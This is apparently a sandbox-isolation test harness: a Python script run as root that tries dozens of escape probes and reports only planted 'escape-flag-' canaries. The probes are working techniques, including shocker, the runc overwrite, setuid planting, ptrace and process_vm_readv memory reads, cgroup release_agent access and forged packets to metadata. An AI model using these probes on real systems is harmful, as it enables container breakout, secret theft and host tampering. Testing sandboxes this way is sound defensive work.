"""Attempts to leave a sandbox, run as root in it: python3 probes.py <TARGETS, one line of JSON for each probe.

Whether one got out is decided outside, by who made the secrets, canaries and listeners that TARGETS names. Nothing is
taken from a host but these, and nothing is changed on it but these: what has no harmless form is opened, not written.
A probe tells what it saw (every secret begins with `escape-flag-`), or REACHED where only the kernel's answer tells.
"""

import ctypes
import glob
import json
import os
import platform
import re
import signal
import socket
import stat
import struct
import sys

SECONDS_EACH = 10
MARK = re.compile(rb"escape-flag-[a-z0-9-]+")
PROBES = {}
T = json.load(sys.stdin)
libc = ctypes.CDLL(None, use_errno=True)

# x86_64, aarch64
NUMBERS = {
    "init_module": (175, 105), "process_vm_readv": (310, 270), "open_by_handle_at": (304, 265), "setns": (308, 268),
    "unshare": (272, 97), "bpf": (321, 280), "perf_event_open": (298, 241), "userfaultfd": (323, 282),
    "io_uring_setup": (425, 425), "pidfd_open": (434, 434), "pidfd_getfd": (438, 438), "ptrace": (101, 117),
}  # fmt: skip
ARCH = 0 if platform.machine() == "x86_64" else 1


def call(name, *args):
    # As a register holds them: an int alone would leave the upper half to chance where it goes by the stack.
    wide = [ctypes.c_long(arg) if isinstance(arg, int) else arg for arg in args]
    result = libc.syscall(NUMBERS[name][ARCH], *wide)
    if result < 0:
        raise OSError(ctypes.get_errno(), f"{name}: {os.strerror(ctypes.get_errno())}")
    return result


def mount(source, target, kind=None, flags=0, data=None):
    encoded = [part and part.encode() for part in (source, target, kind, data)]
    if libc.mount(encoded[0], encoded[1], encoded[2], flags, encoded[3]) != 0:
        raise OSError(ctypes.get_errno(), f"mount {kind}: {os.strerror(ctypes.get_errno())}")


MS_RDONLY, MS_REMOUNT, MS_BIND, CLONE_NEWNS = 1, 32, 4096, 0x20000
PTRACE_PEEKDATA, PTRACE_ATTACH, PTRACE_DETACH = 2, 16, 17


def probe(function):
    PROBES[function.__name__.replace("_", "-")] = function
    return function


def read(path, size=4096):
    with open(path, "rb", buffering=0) as file:
        return file.read(size) or b""


def seen(data):
    return " ".join(sorted({found.decode() for found in MARK.findall(data)}))


def first(attempts):
    """What the first attempt that saw something saw; else why the last one did not."""
    why = "nothing to try"
    for attempt in attempts:
        try:
            if found := attempt():
                return found
            why = "nothing seen"
        except OSError as error:
            why = reason(error)
    return why


def reason(error):
    """Without the name of a file: what was given to the probe is nothing that it has found."""
    return f"{type(error).__name__}: {error.strerror or error}" if isinstance(error, OSError) else repr(error)


def pids():
    """Processes that are not of this program, the host's first."""
    own = {os.getpid(), os.getppid()}
    here = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    titled = [pid for pid in here if pid not in own and MARK.search(quiet(f"/proc/{pid}/cmdline"))]
    return titled + [pid for pid in here if pid not in own and pid not in titled]


def quiet(path):
    try:
        return read(path, 1 << 16)
    except OSError:
        return b""


def ways_to(path):
    yield path
    yield "../" * 40 + path
    for line in quiet("/proc/self/mountinfo").decode().splitlines():
        yield line.split()[4] + path
    for pid in pids():
        yield f"/proc/{pid}/root{path}"


# Files of the host


@probe
def flag_by_path():
    return first(lambda way=way: seen(read(way)) for flag in T["flags"] for way in ("../" * 40 + flag, flag))


@probe
def flag_below_a_mount():
    points = [line.split()[4] for line in quiet("/proc/self/mountinfo").decode().splitlines()]
    return first(lambda way=point + flag: seen(read(way)) for flag in T["flags"] for point in points)


@probe
def flag_by_proc_root():
    return first(lambda way=f"/proc/{pid}/root{flag}": seen(read(way)) for pid in pids() for flag in T["flags"])


@probe
def flag_by_proc_fd():
    def regular(path):
        return seen(read(path)) if stat.S_ISREG(os.stat(path).st_mode) else None

    found = [name for pid in pids() for name in [f"/proc/{pid}/cwd/flag", *glob.glob(f"/proc/{pid}/fd/*")]]
    return first(lambda name=name: regular(name) for name in found)


@probe
def flag_by_chroot_in_chroot():
    os.makedirs("/tmp/deeper", exist_ok=True)
    os.chroot("/tmp/deeper")
    os.chdir("../" * 40)
    os.chroot(".")
    return first(lambda flag=flag: seen(read(flag)) for flag in T["flags"])


@probe
def flag_by_handle():
    """CVE-2014-3519 (shocker); the guess of the handle is made easy."""
    kind, handle = T["handle"]["type"], bytes.fromhex(T["handle"]["hex"])
    packed = ctypes.create_string_buffer(struct.pack("Ii", len(handle), kind) + handle)

    def attempt(path):
        descriptor = os.open(path, os.O_RDONLY)
        return seen(os.read(call("open_by_handle_at", descriptor, packed, os.O_RDONLY), 4096))

    return first(lambda path=path: attempt(path) for path in ["/etc/hosts", "/etc/hostname", "/"])


@probe
def flag_by_setns():
    def attempt(pid):
        call("setns", os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY), CLONE_NEWNS)
        return seen(read(T["flags"][0]))

    return first(lambda pid=pid: attempt(pid) for pid in pids())


@probe
def flag_on_a_device():
    os.mknod("/tmp/probe-disk", stat.S_IFBLK | 0o600, os.makedev(*T["device"]))
    return seen(read("/tmp/probe-disk")) or "nothing seen"


@probe
def flag_on_a_mounted_device():
    os.mknod("/tmp/probe-disk-2", stat.S_IFBLK | 0o600, os.makedev(*T["device"]))
    os.makedirs("/tmp/probe-mount", exist_ok=True)
    call("unshare", CLONE_NEWNS)
    mount("/tmp/probe-disk-2", "/tmp/probe-mount", "ext4", MS_RDONLY)
    return seen(read("/tmp/probe-mount/flag"))


@probe
def write_to_the_host():
    def attempt(path):
        with open(path, "r+b", buffering=0) as file:
            file.write(T["tag"].encode())
        return f"wrote {path}"

    return first(lambda way=way: attempt(way) for way in ways_to(T["canary"]))


@probe
def write_past_read_only():
    """Remounts, a second bind, other names of the same file: CVE-2026-46695."""

    def attempt(path):
        with open(path, "r+b", buffering=0) as file:
            file.write(T["tag"].encode())
        return f"wrote {path}"

    def remounted(point, path, flags):
        mount("none", point, None, flags)
        return attempt(path)

    def bound(point, path):
        os.makedirs("/tmp/probe-bind", exist_ok=True)
        mount(point, "/tmp/probe-bind", None, MS_BIND)
        mount("none", "/tmp/probe-bind", None, MS_REMOUNT | MS_BIND)
        return attempt("/tmp/probe-bind/" + os.path.basename(path))

    def linked(path):
        os.link(path, os.path.dirname(path) + "/probe-link")
        return attempt(os.path.dirname(path) + "/probe-link")

    ways = [lambda path=path: attempt(path) for path in T["readOnly"]]
    for path in T["readOnly"]:
        point = os.path.dirname(path)
        ways.append(lambda path=path: linked(path))
        for at in (path, point):
            for flags in (MS_REMOUNT, MS_REMOUNT | MS_BIND):
                ways.append(lambda at=at, path=path, flags=flags: remounted(at, path, flags))
        ways.append(lambda path=path, point=point: bound(point, path))
    return first(ways)


@probe
def replace_the_agent():
    """CVE-2019-5736: what starts programs for the host is overwritten from inside."""

    def attempt(path):
        os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
        with open(path, "ab", buffering=0) as file:
            file.write(b"\n" + T["tag"].encode())
        return f"wrote {path}"

    def remounted(path):
        mount("none", path, None, MS_REMOUNT | MS_BIND)
        return attempt(path)

    ways = [lambda path=path: attempt(path) for path in (T["agent"], "/proc/1/exe")]
    return first([*ways, lambda: remounted(T["agent"])])


@probe
def write_to_the_shared_image():
    with open(T["shared"], "r+b", buffering=0) as file:
        file.write(T["tag"].encode())
    os.sync()
    return "wrote"


@probe
def leave_a_setuid_program():
    """For a user of the host to run: it becomes root there if he can reach it, and the mount lets him."""
    with open("/usr/bin/id", "rb") as source, open(T["setuid"], "wb") as target:
        target.write(source.read())
    os.chown(T["setuid"], 0, 0)
    os.chmod(T["setuid"], 0o4755)
    os.sync()
    return "left"


# Processes of the host


@probe
def see_processes():
    return first(lambda pid=pid: seen(read(f"/proc/{pid}/cmdline")) for pid in pids())


@probe
def read_environments():
    return first(lambda pid=pid: seen(read(f"/proc/{pid}/environ", 1 << 16)) for pid in pids())


@probe
def read_environments_by_a_proc_of_its_own():
    os.makedirs("/tmp/probe-proc", exist_ok=True)
    call("unshare", CLONE_NEWNS)
    mount("proc", "/tmp/probe-proc", "proc")
    found = glob.glob("/tmp/probe-proc/[0-9]*/environ")
    return first(lambda name=name: seen(read(name, 1 << 16)) for name in found)


def environment_of(pid):
    """Address and size of a process's environment."""
    fields = read(f"/proc/{pid}/stat").rsplit(b")", 1)[1].split()
    return int(fields[47]), int(fields[48]) - int(fields[47])


@probe
def read_memory():
    def attempt(pid):
        address, size = environment_of(pid)
        data = ctypes.create_string_buffer(size)
        mine = struct.pack("PN", ctypes.addressof(data), size)
        theirs = struct.pack("PN", address, size)
        size = call("process_vm_readv", pid, mine, 1, theirs, 1, 0)
        return seen(data.raw[:size])

    return first(lambda pid=pid: attempt(pid) for pid in pids())


@probe
def trace_a_process():
    def attempt(pid):
        if pid == 1:
            return None  # In a sandbox that is its own agent: hostile-guest.e2e.spec.ts traces that.
        call("ptrace", PTRACE_ATTACH, pid, None, None)
        try:
            os.waitpid(pid, 0x40000000)
            word = ctypes.c_long()
            (address, size), data = environment_of(pid), b""
            for offset in range(0, size - 7, 8):
                call("ptrace", PTRACE_PEEKDATA, pid, ctypes.c_void_p(address + offset), ctypes.byref(word))
                data += struct.pack("l", word.value)
            return seen(data)
        finally:
            call("ptrace", PTRACE_DETACH, pid, None, None)

    return first(lambda pid=pid: attempt(pid) for pid in pids())


@probe
def take_a_descriptor():
    def attempt(pid):
        process = call("pidfd_open", pid, 0)
        return seen(os.pread(call("pidfd_getfd", process, 3, 0), 4096, 0))

    return first(lambda pid=pid: attempt(pid) for pid in pids())


@probe
def kill_a_process():
    for pid in pids():
        if b"escape-flag-mortal" in quiet(f"/proc/{pid}/cmdline"):
            os.kill(pid, signal.SIGKILL)
            return "killed"
    return "nothing to kill"


# The host's kernel


def cgroup_root():
    os.makedirs("/tmp/probe-cgroup", exist_ok=True)
    call("unshare", CLONE_NEWNS)
    try:
        mount("cgroup", "/tmp/probe-cgroup", "cgroup", 0, "memory")
    except OSError:
        mount("cgroup2", "/tmp/probe-cgroup", "cgroup2")
    return "/tmp/probe-cgroup"


@probe
def see_cgroups():
    return seen(" ".join(os.listdir(cgroup_root())).encode()) or "nothing seen"


@probe
def change_a_cgroup():
    group = f"{cgroup_root()}/{T['cgroup']}"
    name, value = ("notify_on_release", "1") if os.path.exists(f"{group}/notify_on_release") else ("cgroup.max.depth", "7")
    with open(f"{group}/{name}", "w") as file:
        file.write(value)
    return "changed"


@probe
def open_release_agent():
    """CVE-2022-0492."""
    os.close(os.open(f"{cgroup_root()}/release_agent", os.O_WRONLY))
    return "REACHED"


@probe
def open_core_pattern():
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
    return "REACHED"


@probe
def change_a_network_sysctl():
    with open("/proc/sys/net/ipv4/ip_default_ttl", "w") as file:
        file.write(T["ttl"])
    return "changed"


@probe
def change_the_hostname():
    socket.sethostname(T["tag"])
    return "changed"


@probe
def read_the_kernel_log():
    os.mknod("/tmp/probe-kmsg", stat.S_IFCHR | 0o600, os.makedev(1, 11))
    descriptor = os.open("/tmp/probe-kmsg", os.O_RDONLY | os.O_NONBLOCK)
    return os.read(descriptor, 8192).decode(errors="replace").split(";", 1)[1].split("\n")[0]


@probe
def load_a_module():
    """Nothing is loaded: the kernel refuses the image, or whoever may not even try."""
    try:
        call("init_module", b"no module" * 8, 72, b"")
    except OSError as error:
        return "REACHED" if error.errno == 8 else str(error)  # ENOEXEC


@probe
def make_a_bpf_map():
    call("bpf", 0, struct.pack("IIIII", 2, 4, 4, 1, 0) + bytes(100), 72)
    return "REACHED"


@probe
def watch_a_processor():
    """perf_event_open of all processes on one core."""
    call("perf_event_open", struct.pack("IIQ", 1, 112, 0) + bytes(96), -1, 0, -1, 0)
    return "REACHED"


@probe
def handle_page_faults():
    call("userfaultfd", 0)
    return "REACHED"


@probe
def make_an_io_uring():
    call("io_uring_setup", 1, ctypes.create_string_buffer(120))
    return "REACHED"


@probe
def tell_the_boot_id():
    return read("/proc/sys/kernel/random/boot_id").decode()


@probe
def tell_the_kernel_command_line():
    return read("/proc/cmdline").decode()


@probe
def tell_the_kernel():
    return os.uname().release + " " + os.uname().version


# Sockets and the network


def say(kind, address):
    connection = socket.socket(socket.AF_INET6 if ":" in str(address) else kind, socket.SOCK_STREAM)
    connection.settimeout(2)
    connection.connect(address if kind == socket.AF_UNIX else (address, T["port"]))
    connection.sendall(f"{T['tag']} {CURRENT}\n".encode())
    return f"connected to {address}" if connection.recv(64) else None


def tell(*addresses):
    return first(lambda address=address: say(socket.AF_INET, address) for address in addresses)


@probe
def connect_to_an_abstract_socket():
    return say(socket.AF_UNIX, "\0" + T["abstract"])


@probe
def connect_to_a_socket_by_path():
    return first(lambda way=way: say(socket.AF_UNIX, way) for socket_ in T["sockets"] for way in ways_to(socket_))


@probe
def metadata():
    return tell(T["metadata"])


@probe
def metadata_by_name():
    return tell("metadata.test")


@probe
def metadata_by_mapped_address():
    return tell("::ffff:" + T["metadata"])


def netlink(kind, flags, body):
    link = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    link.settimeout(2)
    link.send(struct.pack("IHHII", 16 + len(body), kind, flags | 5, 1, 0) + body)
    answer = link.recv(4096)
    if (code := -struct.unpack_from("i", answer, 16)[0]) not in (0, 17):
        raise OSError(code, f"netlink: {os.strerror(code)}")


def interface():
    return next(name for _, name in socket.if_nameindex() if name != "lo")


@probe
def metadata_by_an_address_of_its_own():
    """n8n's test: an address and a route that the policy does not know."""
    try:
        index = socket.if_nametoindex(interface())
        local = socket.inet_aton("169.254.1.1")
        attributes = struct.pack("HH4sHH4s", 8, 2, local, 8, 1, local)
        netlink(20, 0x400, struct.pack("BBBBI", 2, 16, 0, 0, index) + attributes)
    except StopIteration:
        return "no interface"
    return tell(T["metadata"])


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def datagram(source, target):
    """An IPv4 packet with UDP in it."""
    text = f"{T['tag']} {CURRENT}\n".encode()
    udp = struct.pack("!HHHH", 4000, T["port"], 8 + len(text), 0) + text
    head = struct.pack("!BBHHHBBH4s4s", 69, 0, 20 + len(udp), 7, 0, 64, 17, 0, *map(socket.inet_aton, (source, target)))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + udp


@probe
def metadata_by_udp():
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.sendto(f"{T['tag']} {CURRENT}\n".encode(), (T["metadata"], T["port"]))
    return "sent"


@probe
def metadata_by_a_forged_source():
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.sendto(datagram(T["forged"], T["metadata"]), (T["metadata"], 0))
    return "sent"


@probe
def metadata_by_a_frame_of_its_own():
    packets = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x800)
    gateway = next(line.split()[3] for line in open("/proc/net/arp").read().splitlines()[1:])
    hardware = bytes.fromhex(gateway.replace(":", ""))
    packets.sendto(datagram(T["own"], T["metadata"]), (interface(), 0x800, 0, 0, hardware))
    return "sent"


@probe
def host_by_its_public_address():
    return tell(T["hostPublic"])


@probe
def host_by_its_private_address():
    return tell(T["hostPrivate"])


@probe
def host_by_loopback():
    return tell("127.0.0.1", "10.201.0.2", "10.201.0.100", "10.0.2.2", *T["gateways"])


@probe
def sibling():
    return tell(T["sibling"])


@probe
def neighbour_in_a_private_range():
    return tell(T["neighbour"])


@probe
def carrier_grade_nat():
    return tell(T["carrierGrade"])


@probe
def internet():
    """No attack: what is allowed must work, or the refusals say nothing."""
    return tell(T["internet"])


CURRENT = ""


def attempt(name):
    """In a process of its own: what it makes of its namespaces, root and signals is gone with it."""
    global CURRENT
    readable, writable = os.pipe()
    child = os.fork()
    if child == 0:
        signal.alarm(SECONDS_EACH)
        CURRENT = name
        try:
            told = PROBES[name]() or "nothing seen"
        except Exception as error:
            told = reason(error)
        os.write(writable, str(told)[:4000].encode())
        os._exit(0)
    os.close(writable)
    told = b""
    while piece := os.read(readable, 4096):
        told += piece
    os.waitpid(child, 0)
    os.close(readable)
    return told.decode(errors="replace") or "did not end in time"


for each in T.get("only") or PROBES:
    print(json.dumps({"probe": each, "told": attempt(each)}), flush=True)
